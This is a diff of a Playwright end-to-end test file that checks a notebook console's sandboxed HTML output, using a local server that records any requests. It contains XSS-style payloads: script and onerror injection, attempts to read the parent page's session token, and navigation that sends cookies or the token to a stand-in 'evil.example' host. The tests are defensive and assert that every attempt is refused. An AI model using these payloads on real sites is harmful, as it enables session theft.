@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import threading
 import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import NamedTuple
 
-from playwright.sync_api import Page, expect
+import pytest
+from playwright.sync_api import Frame, Page, expect
 
 from tests.e2e.support import whole_system
 
@@ -15,10 +20,10 @@ pytestmark = whole_system
 
 HTML = """
 <p id=shown>shown</p><script>document.title = 'hacked'; parent.hacked = 1; window.ran = 1</script>
-<img src=x onerror="window.ran = 2"><img src="https://evil.example/pixel.png">
-<link rel=stylesheet href="https://evil.example/style.css"><iframe src="https://evil.example/"></iframe>
-<meta http-equiv=refresh content="0;url=https://evil.example/"><base target=_top>
-<form action="https://evil.example/"><button>go</button></form>
+<img src=x onerror="window.ran = 2"><img src="EVIL/pixel.png">
+<link rel=stylesheet href="EVIL/style.css"><iframe src="EVIL/"></iframe>
+<meta http-equiv=refresh content="0;url=EVIL/"><base target=_top>
+<form action="EVIL/"><button>go</button></form>
 <a href="javascript:window.ran=3" target=_top>link</a>
 """
 ATTACK = """
@@ -30,14 +35,14 @@ const attempt = (name, work) => {
 attempt('token', () => parent.sessionStorage.getItem('kernelbroker.token'));
 attempt('own storage', () => sessionStorage.length);
 attempt('document', () => parent.document.title);
-attempt('top', () => { top.location = 'https://evil.example/'; });
-attempt('opened', () => window.open('https://evil.example/'));
-for (const [name, url] of [['fetch', 'https://evil.example/'], ['api', '/api/v1/sessions']])
+attempt('top', () => { top.location = 'EVIL/'; });
+attempt('opened', () => window.open('EVIL/'));
+for (const [name, url] of [['fetch', 'EVIL/'], ['api', '/api/v1/sessions']])
   fetch(url).then(() => window.found[name] = 'sent', () => window.found[name] = 'refused');
 for (const height of [1e9, -5, 'x', null, {valueOf: 1}]) parent.postMessage({height}, '*');
-parent.postMessage({ready: true, html: '<script>1</script>', token: 1}, '*');
+parent.postMessage({ready: true, html: '<b>1</b>', token: 1}, '*');
 parent.postMessage(null, '*');
-setTimeout(() => { location = 'https://evil.example/?' + document.cookie; }, 50);
+window.away = 'EVIL/?' + window.found.token;
 </script>
 """
 BLOCKED = (
@@ -48,52 +53,72 @@ BLOCKED = (
     "blocked",
     "Blocked",
     "Framing",
+    "request to",
 )
 
 
-def frame_of(page: Page, number: int = 0):  # type: ignore[no-untyped-def]
+class Evil(NamedTuple):
+    url: str
+    asked: list[str]
+
+
+def frame_of(page: Page, number: int = 0) -> Frame:
     page.locator("iframe").nth(number).wait_for()
     found = [each for each in page.frames if "/console/frame" in each.url]
     return found[number]
 
 
-def test_html_cannot_reach_the_page_or_the_network(console: Console, open_page: OpenPage) -> None:
-    """Scripts of HTML output do not run. Run on demand, they do not reach the page or a network."""
+@pytest.fixture(scope="module")
+def evil() -> Iterator[Evil]:
+    """A server that wants to be asked by the output of cells."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield Evil(f"http://127.0.0.1:{server.server_port}", asked)
+        server.shutdown()
+        thread.join()
+
+
+def test_scripts_of_html_do_not_run(console: Console, open_page: OpenPage, evil: Evil) -> None:
+    """HTML is shown without its scripts, and loads nothing: no picture, style, frame or other page."""
     with console.session("html") as session:
-        session.run(f"from IPython.display import HTML; display(HTML({HTML!r}))")
-        session.run(f"display(HTML({ATTACK!r}))")
+        html = HTML.replace("EVIL", evil.url)
+        session.run(f"from IPython.display import HTML; display(HTML({html!r}))")
         page = open_page("#/sessions/html", expected=BLOCKED)
-        asked: list[str] = []
-        page.on("request", lambda request: asked.append(request.url))
-        page.evaluate("document.querySelector('.stream').scrollTop = 0")
         see(page, ".output-foot", "Scripts of this output are off.")
-        first = page.frame_locator("iframe").first
-        expect(first.locator("#shown")).to_have_text("shown", timeout=TIMEOUT_MS)
+        shown = page.frame_locator("iframe").first.locator("#shown")
+        expect(shown).to_have_text("shown", timeout=TIMEOUT_MS)
         assert frame_of(page).evaluate("[window.ran, window.origin]") == [None, "null"]
-        page.locator(".cell").nth(1).get_by_role("button", name="Run them").click()
-        second = page.frame_locator("iframe").nth(1)
-        expect(second.locator("#shown")).to_have_text("runs", timeout=TIMEOUT_MS)
-        page.wait_for_function("document.querySelectorAll('iframe')[1].style.height !== '60px'")
+        page.frame_locator("iframe").first.locator("a").click()
+        page.frame_locator("iframe").first.locator("button").click()
+        assert frame_of(page).evaluate("window.ran") is None
         assert page.evaluate("[document.title.includes('hacked'), window.hacked]") == [False, None]
-        height = page.evaluate("parseInt(document.querySelectorAll('iframe')[1].style.height)")
-        assert 20 <= height <= 1200
-        assert "kernelbroker" in page.title()
-        see(page, "h1", "html")
-        assert [url for url in asked if "evil.example" in url and "chrome-error" not in url] == []
+        assert evil.asked == []
 
 
-def test_what_scripts_in_the_frame_find(console: Console, open_page: OpenPage) -> None:
-    """Each attempt of a script in the frame is refused by the browser."""
-    quiet = ATTACK.replace("setTimeout(() => { location", "(() => { window.never").replace(
-        ", 50);", ");"
-    )
+def test_scripts_that_a_person_runs_reach_nothing(
+    console: Console, open_page: OpenPage, evil: Evil
+) -> None:
+    """Scripts that a person turns on see neither the page, nor its token, nor any network."""
     with console.session("attempts") as session:
-        session.run(f"from IPython.display import HTML; display(HTML({quiet!r}))")
+        html = ATTACK.replace("EVIL", evil.url)
+        session.run(f"from IPython.display import HTML; display(HTML({html!r}))")
         page = open_page("#/sessions/attempts", expected=BLOCKED)
         page.get_by_role("button", name="Run them").click()
-        expect(page.frame_locator("iframe").locator("#shown")).to_have_text(
-            "runs", timeout=TIMEOUT_MS
-        )
+        shown = page.frame_locator("iframe").locator("#shown")
+        expect(shown).to_have_text("runs", timeout=TIMEOUT_MS)
         frame = frame_of(page)
         frame.wait_for_function("window.found.fetch && window.found.api")
         found = frame.evaluate("window.found")
@@ -101,6 +126,14 @@ def test_what_scripts_in_the_frame_find(console: Console, open_page: OpenPage) -
         assert found == dict.fromkeys(
             ("token", "own storage", "document", "top", "fetch", "api"), "refused"
         )
+        height = page.evaluate("parseInt(document.querySelector('iframe').style.height)")
+        assert 20 <= height <= 1200
+        frame.evaluate("() => { setTimeout(() => { location = window.away; }, 0); }")
+        page.wait_for_function("document.querySelector('h1').innerText === 'attempts'")
+        page.reload()
+        see(page, ".output-foot", "Scripts of this output are off.")
+        assert page.evaluate("window.hacked") is None
+        assert evil.asked == []
 
 
 def test_forged_messages_change_nothing(console: Console, open_page: OpenPage) -> None:
